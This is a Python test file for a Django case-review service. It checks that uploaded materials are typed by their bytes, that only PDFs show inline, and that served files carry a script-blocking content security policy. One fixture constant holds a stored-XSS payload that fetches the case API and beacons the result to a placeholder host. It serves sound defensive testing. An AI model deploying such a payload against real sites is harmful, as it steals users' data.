"""Central serves materials safely (issue 12): what a file is comes from its bytes at central, not from
the sending platform's word; only PDF and images are shown inline, anything else is a download; the
viewer's responses forbid scripts and outside loads."""

import pytest
from django.test import Client

from apps.central.review.models import ReviewCase, ReviewMaterial
from govservice.lib.filetypes import FILE_VIEWER_CSP
from tests.central.test_review import PDF, package, send

HTML = b"<html><script>fetch('/api/v1/cases/').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))</script>"

pytestmark = pytest.mark.django_db


def _viewer(approver) -> Client:
    page = Client()
    page.force_login(approver)
    return page


def test_a_file_the_sender_calls_a_pdf_is_stored_and_served_as_what_it_is(client, platform, matter, approver):
    message_id, body = package(matter, content=HTML)  # declared application/pdf by the sender
    assert send(client, message_id, body).status_code == 200
    case = ReviewCase.objects.get(front_number="TZ2026112400001")
    material = case.materials.get()
    assert material.content_type == "application/octet-stream" and not material.file.name.endswith(".pdf")

    served = _viewer(approver).get(f"/cases/{case.id}/materials/{material.id}/")
    assert served.status_code == 200
    assert served["Content-Type"] == "application/octet-stream"
    assert served["Content-Disposition"].startswith("attachment;")
    assert served["Content-Security-Policy"] == FILE_VIEWER_CSP and "script-src" not in FILE_VIEWER_CSP
    assert served["X-Content-Type-Options"] == "nosniff"


def test_a_pdf_is_shown_inline_under_the_viewer_policy(client, platform, matter, approver):
    message_id, body = package(matter, content=PDF)
    assert send(client, message_id, body).status_code == 200
    case = ReviewCase.objects.get(front_number="TZ2026112400001")
    served = _viewer(approver).get(f"/cases/{case.id}/materials/{case.materials.get().id}/")
    assert served["Content-Type"] == "application/pdf" and served["Content-Disposition"].startswith("inline;")
    assert served["Content-Security-Policy"] == FILE_VIEWER_CSP and b"".join(served.streaming_content) == PDF


def test_a_row_stored_with_the_senders_word_is_still_served_as_what_it_is(client, platform, matter, approver):
    message_id, body = package(matter, content=HTML)
    assert send(client, message_id, body).status_code == 200
    case = ReviewCase.objects.get(front_number="TZ2026112400001")
    ReviewMaterial.objects.filter(case=case).update(content_type="text/html")  # as stored before this change
    served = _viewer(approver).get(f"/cases/{case.id}/materials/{case.materials.get().id}/")
    assert served["Content-Type"] == "application/octet-stream" and served["Content-Disposition"].startswith(
        "attachment;"
    )
